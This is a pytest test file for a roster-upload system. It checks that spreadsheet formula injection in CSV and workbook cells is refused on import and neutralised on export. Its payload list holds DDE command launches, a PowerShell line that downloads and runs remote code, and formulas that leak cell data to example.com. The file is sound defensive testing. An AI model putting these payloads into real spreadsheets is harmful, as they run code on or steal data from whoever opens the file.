"""Thirty cells that a spreadsheet would run, through CSV and workbooks: refused coming in, harmless going out."""

import csv
import io
from datetime import date

import pytest

from levels.rulebook import rulebook
from registry.issuing.lists.corrected import corrected, table_of
from registry.issuing.lists.roster import read_roster
from registry.reading.workbooks import Limits, sheets_of
from tests.workbook_files import row, workbook, written

METHODS = rulebook("2026-01-01").methods
TODAY = date(2026, 6, 1)

FORMULAS = [
    "=cmd|' /C calc'!A0",
    "=cmd|'/C powershell IEX(wget 0r.pe/p)'!A1",
    "+cmd|' /C calc'!A0",
    "-cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '=DDE("cmd";"/C calc";"x")',
    "=MSEXCEL|'\\..\\..\\Windows\\System32\\cmd.exe /c calc.exe'!''",
    "=rundll32|'URL.dll,OpenURL calc.exe'!A",
    '=HYPERLINK("http://example.com?leak="&A1,"Se betyget")',
    '=IMPORTXML(CONCAT("http://example.com/?v=", A1:E9), "//a")',
    '=IMAGE("http://example.com/x.png")',
    '=WEBSERVICE("http://example.com")',
    "=IMPORTDATA(A1)",
    "=1+1",
    "=A1",
    "=",
    "+1+1",
    "+A1",
    "-A1",
    "-1+1",
    "- 2+3+cmd|' /C calc'!A0",
    "@A1",
    "@",
    "\t=1+1",
    "\t+cmd|' /C calc'!A0",
    "\r=1+1",
    "\uff1dcmd|' /C calc'!A0",
    "\uff0b1+1",
    "\uff0dA1",
    "\uff20SUM(1)",
    " =1+1",
    "\u00a0=1+1",
    "'=1+1",
    "=1+1,Anna",
]


def as_csv(*rows: list[str]) -> bytes:
    out = io.StringIO()
    csv.writer(out, delimiter=";", quoting=csv.QUOTE_ALL).writerows(rows)
    return out.getvalue().encode()


def lists(header: str, cell: str) -> list[bytes]:
    rows = [["Namn", header], ["Anna Berg", cell]]
    return [as_csv(*rows), written(rows)]


COLUMNS = {
    "Namn": "name",
    "E-post": "email",
    "Arbetsgivare": "employer",
    "Anmärkning": "note",
    "ID-kontroll": "enrolment_method",
    "Telefon": "phone",
    "Född": "birth_date",
}


@pytest.mark.parametrize("formula", FORMULAS)
def test_it_is_refused_wherever_it_stands_and_goes_out_harmless(formula: str) -> None:
    rows = [[*COLUMNS, "Land"]]
    for at in range(len(COLUMNS)):
        rows.append([f"Anna Berg {'abcdefg'[at]}", *[""] * (len(COLUMNS) - 1), "SE"])
        rows[-1][at] = formula
    for data in (as_csv(*rows), written(rows)):
        roster = read_roster(data, methods=METHODS, on=TODAY)
        assert roster.rows == ()
        found = {number: [(fault.column, fault.code) for fault in faults] for number, faults in roster.faults.items()}
        assert found == {at: [(column, "formula")] for at, column in enumerate(COLUMNS.values(), 2)}
        table = table_of(data)
        assert table is not None
        assert_harmless(corrected(table, roster.faults, "sv"), ";")


def assert_harmless(data: bytes, delimiter: str) -> None:
    """As a program sees it that opens the file, and not as we read it."""
    if data.startswith(b"PK"):
        ((sheet,), _) = sheets_of(data, Limits(100, 60))
        cells = [cell for _, cells in sheet.rows for cell in cells]
    else:
        cells = [
            cell for line in csv.reader(io.StringIO(data.decode("utf-8-sig")), delimiter=delimiter) for cell in line
        ]
    assert cells
    for cell in cells:
        assert not cell.lstrip(" \u00a0").startswith(("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠"))


@pytest.mark.parametrize("formula", ["=cmd|' /C calc'!A0", "+1", "@A1"])
def test_a_formula_that_computed_such_a_text_is_refused_too(formula: str) -> None:
    cell = f'<c r="A2" t="str"><f>CONCAT("=","x")</f><v>{formula}</v></c><c r="B2"><v>1</v></c>'
    data = workbook(row(1, "Namn", "Godkänd") + f'<row r="2">{cell}</row>')
    roster = read_roster(data, methods=METHODS, on=TODAY)
    assert [(fault.column, fault.code) for fault in roster.faults[2]] == [("name", "formula")]


@pytest.mark.parametrize(
    ("cells", "faults"),
    [
        pytest.param("<c><f>UPPER(X2)</f><v>7</v></c>", [("name", "name_without_letters")], id="wrong besides"),
        pytest.param('<c t="str"><f>UPPER(X2)</f><v>ANNA BERG</v></c>', [("name", "computed_cell")], id="a name"),
        pytest.param("{anna}<c><f>SUM(X2:Y2)</f><v>480</v></c>", [("attended_minutes", "computed_cell")], id="a sum"),
        pytest.param(
            '{anna}<c><f t="shared" si="0"/><v>480</v></c>', [("attended_minutes", "computed_cell")], id="one shared"
        ),
        pytest.param("{anna}<c><f>IF(1,2)</f><v/></c>", [("attended_minutes", "computed_cell")], id="an empty text"),
        pytest.param("{anna}<c><f>SUM(X2:Y2)</f></c>", [("attended_minutes", "formula")], id="no value"),
        pytest.param('{anna}<c t="e"><f>X2</f><v>#N/A</v></c>', [("attended_minutes", "error_cell")], id="an error"),
        pytest.param("{anna}<c><v>480</v></c><c><f>X2</f><v>1</v></c>", [], id="in a column that is not read"),
    ],
)
def test_a_formula_is_refused_in_columns_that_are_read(cells: str, faults: list[tuple[str, str]]) -> None:
    anna = '<c t="inlineStr"><is><t>Anna Berg</t></is></c>'
    data = workbook(row(1, "Namn", "Närvarominuter", "Nr") + f'<row r="2">{cells.format(anna=anna)}</row>')
    roster = read_roster(data, methods=METHODS, on=TODAY)
    assert [(fault.column, fault.code) for fault in roster.faults.get(2, ())] == faults
    assert [one.facts for one in roster.rows] == [{"attended_minutes": 480}][bool(faults) :]
    # What comes back has the values, and is taken.
    if faults == [("attended_minutes", "computed_cell")] and "480" in cells:
        table = table_of(data)
        assert table is not None
        assert len(read_roster(corrected(table, roster.faults, "sv"), methods=METHODS, on=TODAY).rows) == 1


def test_what_one_formula_fills_is_computed_and_so_are_a_header_and_a_part_of_a_name() -> None:
    header = '<c t="str"><f>X1</f><v>Född</v></c>'.join(
        f'<c t="inlineStr"><is><t>{text}</t></is></c>' for text in ("Förnamn", "Efternamn")
    )
    rows = "".join(
        f'<row r="{number}"><c t="str">{formula}<v>{name}</v></c><c/><c t="str"><v>Berg</v></c></row>'
        for number, formula, name in ((2, '<f t="array" ref="A2:A3">X2:X3</f>', "Anna"), (3, "", "Åsa"), (4, "", "Bo"))
    )
    roster = read_roster(workbook(f'<row r="1">{header}</row>{rows}'), methods=METHODS, on=TODAY)
    assert {number: [(fault.column, fault.code) for fault in found] for number, found in roster.faults.items()} == {
        1: [("Född", "column_computed")],
        2: [("first_name", "computed_cell")],
        3: [("first_name", "computed_cell")],
    }


def test_a_sum_below_a_column_is_nobody() -> None:
    rows = row(1, "Namn", "Född", "Närvarominuter") + row(2, "Anna Berg", "1990-05-17", "480")
    data = workbook(f'{rows}<row r="3"><c r="C3"><f>SUM(C2:C2)</f><v>480</v></c></row>')
    assert [fault.code for fault in read_roster(data, methods=METHODS, on=TODAY).faults[3]] == ["stray_row"]


@pytest.mark.parametrize("phone", ["+46 70 123 45 67", "+4670123456", "+47 912 34 567"])
def test_a_telephone_number_is_no_formula_and_comes_back_as_it_was(phone: str) -> None:
    for data in lists("Telefon", phone):
        (one,) = read_roster(data, methods=METHODS, on=TODAY).rows
        assert one.phone == phone
        table = table_of(data)
        assert table is not None
        back = corrected(table, {}, "sv")
        assert read_roster(back, methods=METHODS, on=TODAY).rows == (one,)
        assert (f"'{phone}".encode() in back) == (not data.startswith(b"PK"))


def test_a_number_below_zero_is_told_as_a_number() -> None:
    for data in lists("Närvarominuter", "-5"):
        assert [fault.code for fault in read_roster(data, methods=METHODS, on=TODAY).faults[2]] == ["negative"]
